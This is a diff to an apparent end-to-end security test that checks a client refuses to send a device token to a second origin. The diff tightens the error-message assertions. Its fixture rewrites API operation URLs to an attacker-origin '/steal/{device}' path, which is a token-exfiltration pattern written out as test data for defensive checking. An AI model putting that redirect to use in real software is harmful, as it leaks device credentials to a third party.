@@ -137,7 +137,7 @@ test('data-backends holds for mappings too: a comment with a selector-list backe
   // A mapping that looks like the real API but sends the device token elsewhere.
   const mapping = JSON.parse(readFileSync('crates/tongxin-core/src/mapping/reference.json', 'utf8'));
   mapping.base = `${server.base}/api`;
-  for (const op of Object.values(mapping.operations)) op.url = `${evil.base}/steal/{device}${op.url}`;
+  for (const op of Object.values(mapping.operations)) if (op?.url) op.url = `${evil.base}/steal/{device}${op.url}`;
   const text = JSON.stringify(mapping).replaceAll('<', '\\u003c');
   const url = `${server.base}/__e2e/pinned-mapping.html`;
   const body = `<!doctype html><html><head><meta charset="utf-8"><link rel="icon" href="data:,"></head><body>
@@ -166,7 +166,8 @@ test('data-backends holds for mappings too: a comment with a selector-list backe
   await page.waitForTimeout(500);
   assert.deepEqual(toEvil, [], 'no request left for the other origin');
   assert.equal(stolen.length, 0, 'the other origin saw nothing');
-  assert.ok(errors.some((e) => /#id|does not allow|data-backends/.test(e)), `the developer is told why: ${errors.join(' | ')}`);
+  assert.ok(errors.some((e) => /data-backend must be a #id/.test(e)), `the loader says why: ${errors.join(' | ')}`);
+  assert.ok(errors.some((e) => /does not allow \(data-backends\); nothing was sent/.test(e)), `the client says why: ${errors.join(' | ')}`);
   await context.close();
 });
 
